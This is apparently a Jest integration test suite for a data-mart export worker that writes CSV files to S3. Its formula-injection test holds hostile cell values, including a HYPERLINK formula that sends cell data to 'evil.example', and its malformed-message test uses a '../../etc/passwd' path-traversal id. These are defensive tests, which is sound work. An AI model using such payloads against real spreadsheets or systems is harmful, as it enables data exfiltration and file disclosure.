/**
 * The export worker end to end: real PostgreSQL (migrated mart), a local S3-compatible server (s3rver behind a
 * signature-checking front: put, multipart create, upload part, complete) and the job table in memory behind
 * ExportJobs. s3rver does not implement AbortMultipartUpload (405), so the abort-on-failure tests run at the SDK
 * boundary (aws-sdk-client-mock), which records the commands lib-storage's Upload sends.
 */
import {
  AbortMultipartUploadCommand,
  CompleteMultipartUploadCommand,
  CreateMultipartUploadCommand,
  GetObjectCommand,
  PutObjectCommand,
  S3Client,
  UploadPartCommand,
} from '@aws-sdk/client-s3';
import { type AwsClientStub, mockClient } from 'aws-sdk-client-mock';
import type { SQSEvent } from 'aws-lambda';
import { ExportJobs } from '../../../lambda/api-shared/export-jobs';
import { type ExportJob, martTablesFromDatasets } from '../../../lambda/api-shared/contract';
import type { UpdateInput } from '../../../lambda/shared/aws/dynamodb';
import { TransientError } from '../../../lambda/shared/errors';
import { logger } from '../../../lambda/shared/logger';
import type { SqlExecutor } from '../../../lambda/shared/sql';
import { exampleConfig } from '../../helpers/app';
import { narrowedTo, startPostgres, type TestDatabase } from '../../helpers/postgres';
import { type LocalS3, startLocalS3 } from '../validate/local-s3';
import { CLICK_COUNT, martTables, migrateAndSeed } from '../mart-query/mart-fixture';
import { ObjectUpload } from '../../../lambda/export-worker/object-upload';

process.env.EXPORTS_TABLE = 'dp-dev-export-jobs';
process.env.MART_TABLES = JSON.stringify(martTablesFromDatasets(exampleConfig().datasets));
process.env.MART_CLUSTER_ARN = 'arn:aws:rds:eu-west-1:222222222222:cluster:dp-dev-mart';
process.env.MART_SECRET_ARN = 'arn:aws:secretsmanager:eu-west-1:222222222222:secret:ReaderLoginSecret-AbCdEf';
process.env.MART_DATABASE = 'mart';
process.env.ARTIFACTS_BUCKET = 'dp-dev-artifacts-222222222222-eu-west-1';
process.env.KMS_KEY_ARN = 'arn:aws:kms:eu-west-1:222222222222:key/11111111-2222-3333-4444-555555555555';
process.env.EXPORT_PAGE_ROWS = '1000';
process.env.POWERTOOLS_LOG_LEVEL = 'SILENT';
process.env.POWERTOOLS_METRICS_NAMESPACE = 'DataPlatformTest';
process.env.AWS_REGION = 'eu-west-1';

const BUCKET = process.env.ARTIFACTS_BUCKET;
const KMS_KEY_ARN = process.env.KMS_KEY_ARN;

type WorkerModule = typeof import('../../../lambda/export-worker/handler');
let worker: WorkerModule;
let db: TestDatabase;
let local: LocalS3;
let s3: S3Client;
/** The job table of the current test (see jobStore). */
let jobs: ExportJobs;

beforeAll(async () => {
  worker = await import('../../../lambda/export-worker/handler');
  db = await startPostgres();
  await migrateAndSeed(db.executor);
  local = await startLocalS3([BUCKET]);
  s3 = local.s3;
});
afterAll(async () => {
  await local?.stop();
  await db?.stop();
});

/**
 * The job store: an in-memory table behind ExportJobs (the document client's get and update, with DynamoDB's
 * condition), updated as the worker updates it.
 */
function jobStore(initial: ExportJob): { current: () => ExportJob; statuses: string[] } {
  let job = { ...initial };
  const statuses: string[] = [];
  jobs = new ExportJobs(
    {
      get: async () => ({ Item: job }),
      put: async () => {
        throw new Error('the worker never creates jobs');
      },
      update: async (input: UpdateInput) => {
        expect(input).toMatchObject({ Key: { id: job.id }, ConditionExpression: 'attribute_exists(id)' });
        const values = input.ExpressionAttributeValues as Record<string, unknown>;
        const names = input.ExpressionAttributeNames as Record<string, string>;
        for (const [placeholder, field] of Object.entries(names))
          job = { ...job, [field]: values[`:${placeholder.slice(1)}`] };
        statuses.push(job.status);
        return {};
      },
    },
    'dp-dev-export-jobs',
  );
  return { current: () => job, statuses };
}

function exportJob(id: string, request: Partial<ExportJob['request']> = {}): ExportJob {
  return {
    id,
    status: 'QUEUED',
    requestedBy: 'cognito:6f1c2a4e-0000-4000-8000-00000000beef',
    request: { table: 'clicks', filters: [], format: 'csv', ...request },
    createdAt: '2026-11-22T14:00:00.000Z',
    updatedAt: '2026-11-22T14:00:00.000Z',
    expiresAt: 1_795_962_400,
  };
}

function sqsEvent(body: string, receiveCount = 1): SQSEvent {
  return {
    Records: [
      {
        messageId: '059f36b4-87a3-44ab-83d2-661975830a7d',
        receiptHandle: 'AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a...',
        body,
        attributes: {
          ApproximateReceiveCount: String(receiveCount),
          SentTimestamp: '1795356000000',
          SenderId: 'AROAEXAMPLE:dp-dev-export-request',
          ApproximateFirstReceiveTimestamp: '1795356000001',
        },
        messageAttributes: {},
        md5OfBody: 'e4e68fb7bd0e697a0ae8f1bb342846b3',
        eventSource: 'aws:sqs',
        eventSourceARN: 'arn:aws:sqs:eu-west-1:222222222222:dp-dev-export-jobs',
        awsRegion: 'eu-west-1',
      },
    ],
  };
}

/** The worker as in AWS: with the reader login's privileges. */
function workerFor(executor: SqlExecutor = db.executor, pageRows = 1000, client: S3Client = s3) {
  return worker.createHandler({
    jobs,
    executor: narrowedTo(executor, 'mart_reader_a'),
    tables: martTables,
    target: { s3: client, bucket: BUCKET, kmsKeyArn: KMS_KEY_ARN, partBytes: 5 * 1024 * 1024 },
    pageRows,
  });
}

/** Read back with the AWS SDK: an independent reader of what the worker wrote. */
async function readExport(id: string): Promise<{ text: string; contentType?: string }> {
  const object = await local.s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: `exports/${id}.csv` }));
  return { text: await object.Body!.transformToString(), contentType: object.ContentType };
}

describe('export worker on PostgreSQL and a local S3', () => {
  test('writes the whole table as CSV to exports/<id>.csv, paging by key, and marks the job SUCCEEDED', async () => {
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0001';
    const store = jobStore(exportJob(id));
    local.requests.length = 0;
    // Pages of 4 rows: 25 rows take 7 queries, each continuing after the last key.
    const result = await workerFor(db.executor, 4)(sqsEvent(JSON.stringify({ id })));
    expect(store.current().error).toBeUndefined();
    expect(result).toEqual({ batchItemFailures: [] });

    const { text, contentType } = await readExport(id);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('click_id,impression_id,click_time,campaign_id,landing_url,cost_usd,is_fraud_suspected');
    expect(lines[1]).toBe(
      'clk-0000000000000000,imp-0000000000000000,2026-11-01T10:00:00.000Z,100,"https://example.com/?a=1,b=""2""",0.2500,true',
    );
    expect(lines[2]).toBe('clk-0000000000000001,imp-0000000000000001,2026-11-02T10:00:00.000Z,101,,1.2500,false');
    expect(lines.slice(1, -1)).toHaveLength(CLICK_COUNT);
    expect(new Set(lines.slice(1, -1)).size).toBe(CLICK_COUNT);
    expect(lines.at(-1)).toBe('');
    expect(contentType).toBe('text/csv; charset=utf-8');
    // Smaller than a part: one PutObject, written SSE-KMS with the platform key, bucket key on.
    const writes = local.requests.filter((request) => request.method !== 'GET');
    expect(writes.map((request) => [request.method, request.path])).toEqual([['PUT', `/${BUCKET}/exports/${id}.csv`]]);
    expect(writes[0].headers).toMatchObject({
      'x-amz-server-side-encryption': 'aws:kms',
      'x-amz-server-side-encryption-aws-kms-key-id': KMS_KEY_ARN,
      'x-amz-server-side-encryption-bucket-key-enabled': 'true',
    });

    expect(store.statuses).toEqual(['RUNNING', 'SUCCEEDED']);
    expect(store.current()).toEqual(
      expect.objectContaining({
        status: 'SUCCEEDED',
        objectKey: `exports/${id}.csv`,
        rowCount: CLICK_COUNT,
        bytes: Buffer.byteLength(text),
        attempts: 1,
      }),
    );
  });

  test('applies the whitelisted filters', async () => {
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0002';
    const store = jobStore(
      exportJob(id, {
        filters: [
          { column: 'campaign_id', operator: 'eq', value: '101' },
          { column: 'click_id', operator: 'lt', value: 'clk-0000000000000010' },
        ],
      }),
    );
    await workerFor()(sqsEvent(JSON.stringify({ id })));
    const rows = (await readExport(id)).text.trim().split('\r\n').slice(1);
    expect(rows.map((row) => row.split(',')[0])).toEqual([
      'clk-0000000000000001',
      'clk-0000000000000004',
      'clk-0000000000000007',
      'clk-000000000000000a',
      'clk-000000000000000d',
    ]);
    expect(store.current().rowCount).toBe(5);
  });

  test('streams a large export in several multipart parts', async () => {
    // About 8 MB of impressions: more than one 5 MiB part.
    await db.executor.query(
      `INSERT INTO mart.impressions (impression_id, event_time, event_date, campaign_id, creative_id, placement,
         device_type, country, bid_price_usd, viewable, viewability_score)
       SELECT 'imp-' || lpad(to_hex(n), 16, '0'), timestamptz '2026-11-01T00:00:00Z' + n * interval '1 second',
              date '2026-11-01', 4000000000 + n, n % 100, 'video', 'desktop', 'FR', 1.5, n % 2 = 0,
              0.123456789
         FROM generate_series(1000000, 1060000) AS n`,
    );
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0003';
    const store = jobStore(exportJob(id, { table: 'impressions' }));
    local.requests.length = 0;
    await workerFor(db.executor, 5000)(sqsEvent(JSON.stringify({ id })));
    const parts = local.requests.filter((request) => request.method === 'PUT' && 'partNumber' in request.query);
    expect(parts.map((request) => request.query.partNumber).sort()).toEqual(['1', '2']);
    const { text } = await readExport(id);
    expect(store.current().status).toBe('SUCCEEDED');
    expect(store.current().rowCount).toBe(60_002);
    expect(store.current().bytes).toBeGreaterThan(5 * 1024 * 1024);
    expect(Buffer.byteLength(text)).toBe(store.current().bytes);
    expect(text.trim().split('\r\n')).toHaveLength(60_003);
  });

  test('ignores a duplicate delivery of a finished job (SQS is at-least-once)', async () => {
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0004';
    const store = jobStore({ ...exportJob(id), status: 'SUCCEEDED' });
    await expect(workerFor()(sqsEvent(JSON.stringify({ id })))).resolves.toEqual({ batchItemFailures: [] });
    expect(store.statuses).toEqual([]);
  });

  test('fails a job whose request is no longer valid at once, without a retry', async () => {
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0005';
    const store = jobStore(exportJob(id, { filters: [{ column: 'landing_url', operator: 'eq', value: 'x' }] }));
    await expect(workerFor()(sqsEvent(JSON.stringify({ id })))).resolves.toEqual({ batchItemFailures: [] });
    expect(store.current()).toEqual(
      expect.objectContaining({ status: 'FAILED', error: expect.stringMatching(/cannot be filtered on in clicks/) }),
    );
  });

  test('retries a transient failure through SQS, then fails the job on the last delivery', async () => {
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0006';
    const resuming: SqlExecutor = {
      query: async () => {
        throw new TransientError('The data mart cluster is not available yet (DatabaseResumingException); retry later');
      },
      transaction: async () => {
        throw new TransientError('The data mart cluster is not available yet (DatabaseResumingException); retry later');
      },
    };
    const store = jobStore(exportJob(id));
    const first = await workerFor(resuming)(sqsEvent(JSON.stringify({ id }), 1));
    expect(first).toEqual({ batchItemFailures: [{ itemIdentifier: '059f36b4-87a3-44ab-83d2-661975830a7d' }] });
    expect(store.current()).toEqual(
      expect.objectContaining({ status: 'QUEUED', error: expect.stringMatching(/^Attempt 1 failed, retrying/) }),
    );
    const last = await workerFor(resuming)(sqsEvent(JSON.stringify({ id }), 3));
    expect(last.batchItemFailures).toHaveLength(1);
    expect(store.current()).toEqual(
      expect.objectContaining({
        status: 'FAILED',
        attempts: 2,
        error: expect.stringMatching(/^Gave up after 3 attempts/),
      }),
    );
  });

  test('fails a job whose stored filter breaks its column rule at once, with the rule, before any SQL or write', async () => {
    // A job item written by an older request handler: the worker checks the values again rather than trusting it.
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0009';
    const store = jobStore(exportJob(id, { filters: [{ column: 'click_id', operator: 'eq', value: 'clk-\u0000' }] }));
    const neverCalled: SqlExecutor = {
      query: async () => {
        throw new Error('no SQL may run');
      },
      transaction: async () => {
        throw new Error('no SQL may run');
      },
    };
    const errorLog = jest.spyOn(logger, 'error');
    local.requests.length = 0;
    try {
      await expect(workerFor(neverCalled)(sqsEvent(JSON.stringify({ id })))).resolves.toEqual({
        batchItemFailures: [],
      });
      expect(store.current()).toEqual(
        expect.objectContaining({
          status: 'FAILED',
          error:
            'Value "clk-\\u0000" for click_id is not a valid string: it contains a NUL character (U+0000), which PostgreSQL text cannot hold. Fix: remove the NUL character',
        }),
      );
      expect(store.statuses).toEqual(['RUNNING', 'FAILED']);
      expect(local.requests).toEqual([]);
      expect(errorLog).not.toHaveBeenCalled();
    } finally {
      errorLog.mockRestore();
    }
  });

  test('survives formula injection: string cells starting with = + - @ tab or CR are neutralized, numbers stay data', async () => {
    const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://evil.example/?"&A1,"x")'];
    const ids = hostile.map((_, index) => `inj-${index}`);
    for (const [index, landing] of hostile.entries()) {
      await db.executor.query(
        `INSERT INTO mart.clicks (click_id, impression_id, click_time, campaign_id, landing_url, cost_usd, is_fraud_suspected)
         VALUES (:click_id, :impression_id, '2026-11-01T00:00:00Z', -5, :landing_url, -1.5, false)`,
        { click_id: ids[index], impression_id: index === 0 ? '-imp' : 'imp', landing_url: landing },
      );
    }
    try {
      const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e000a';
      jobStore(
        exportJob(id, {
          filters: [
            { column: 'click_id', operator: 'gte', value: 'inj-' },
            { column: 'click_id', operator: 'lt', value: 'inj.' },
          ],
        }),
      );
      await workerFor()(sqsEvent(JSON.stringify({ id })));
      const lines = (await readExport(id)).text.split('\r\n');
      expect(lines.slice(1, -1)).toEqual([
        `inj-0,"'-imp",2026-11-01T00:00:00.000Z,-5,"'=1+1",-1.5000,false`,
        `inj-1,imp,2026-11-01T00:00:00.000Z,-5,"'+1",-1.5000,false`,
        `inj-2,imp,2026-11-01T00:00:00.000Z,-5,"'-1",-1.5000,false`,
        `inj-3,imp,2026-11-01T00:00:00.000Z,-5,"'@SUM(A1)",-1.5000,false`,
        `inj-4,imp,2026-11-01T00:00:00.000Z,-5,"'\tx",-1.5000,false`,
        // A lone CR stays inside its quoted field (RFC 4180); lines end in CRLF only.
        `inj-5,imp,2026-11-01T00:00:00.000Z,-5,"'\rx",-1.5000,false`,
        `inj-6,imp,2026-11-01T00:00:00.000Z,-5,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-1.5000,false`,
      ]);
    } finally {
      await db.executor.query(`DELETE FROM mart.clicks WHERE click_id LIKE 'inj-%'`);
    }
  });

  test('fails a malformed message back to SQS (it ends in the DLQ, never silently dropped)', async () => {
    jobStore(exportJob('0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0007'));
    for (const body of ['not json', '{"id": "../../etc/passwd"}', '{}']) {
      const result = await workerFor()(sqsEvent(body));
      expect(result.batchItemFailures).toHaveLength(1);
    }
  });
});

describe('export worker at the SDK boundary', () => {
  // Mocks send of every S3Client: created when this block's tests start, restored when they end.
  let s3Mock: AwsClientStub<S3Client>;
  beforeAll(() => {
    s3Mock = mockClient(S3Client);
  });
  beforeEach(() => {
    s3Mock.reset();
    s3Mock.on(CreateMultipartUploadCommand).resolves({ UploadId: 'upload-1' });
    s3Mock.on(UploadPartCommand).resolves({ ETag: '"etag-1"' });
    s3Mock.on(AbortMultipartUploadCommand).resolves({});
  });
  afterAll(() => s3Mock.restore());

  test('writes nothing when the export fails before a part is full, and keeps the job for a retry', async () => {
    let pages = 0;
    const failsOnSecondPage: SqlExecutor = {
      query: (sql, params) => db.executor.query(sql, params),
      transaction: async (work) => {
        pages += 1;
        if (pages === 2) throw new Error('connection reset by peer');
        return db.executor.transaction(work);
      },
    };
    const id = '0b6c1d53-6f3e-4a64-9d3c-8a3c1f0e0008';
    const store = jobStore(exportJob(id));
    const result = await workerFor(
      failsOnSecondPage,
      5,
      new S3Client({ region: 'eu-west-1' }),
    )(sqsEvent(JSON.stringify({ id })));
    expect(result.batchItemFailures).toHaveLength(1);
    expect(store.current()).toMatchObject({
      status: 'QUEUED',
      error: 'Attempt 1 failed, retrying: connection reset by peer',
    });
    // The first page is smaller than a part: no upload was started, so there is nothing to abort.
    expect(s3Mock.calls()).toHaveLength(0);
  });

  test('aborts the multipart upload (SSE-KMS with the platform key) when the export fails after a part', async () => {
    const upload = new ObjectUpload(new S3Client({ region: 'eu-west-1' }), {
      bucket: BUCKET,
      key: 'exports/failed.csv',
      kmsKeyArn: KMS_KEY_ARN,
      contentType: 'text/csv; charset=utf-8',
      partBytes: 5 * 1024 * 1024,
    });
    // One full part and some: lib-storage starts the multipart upload and ships part 1.
    for (let i = 0; i < 6; i++) await upload.write('x'.repeat(1024 * 1024));
    await upload.abort(new Error('connection reset by peer'));
    expect(s3Mock.commandCalls(CreateMultipartUploadCommand).map((call) => call.args[0].input)).toEqual([
      expect.objectContaining({
        Bucket: BUCKET,
        Key: 'exports/failed.csv',
        ContentType: 'text/csv; charset=utf-8',
        ServerSideEncryption: 'aws:kms',
        SSEKMSKeyId: KMS_KEY_ARN,
        BucketKeyEnabled: true,
      }),
    ]);
    expect(s3Mock.commandCalls(UploadPartCommand).map((call) => call.args[0].input.PartNumber)).toEqual([1]);
    expect(s3Mock.commandCalls(AbortMultipartUploadCommand).map((call) => call.args[0].input)).toEqual([
      { Bucket: BUCKET, Key: 'exports/failed.csv', UploadId: 'upload-1' },
    ]);
    expect(s3Mock.commandCalls(CompleteMultipartUploadCommand)).toHaveLength(0);
    expect(s3Mock.commandCalls(PutObjectCommand)).toHaveLength(0);
  });
});
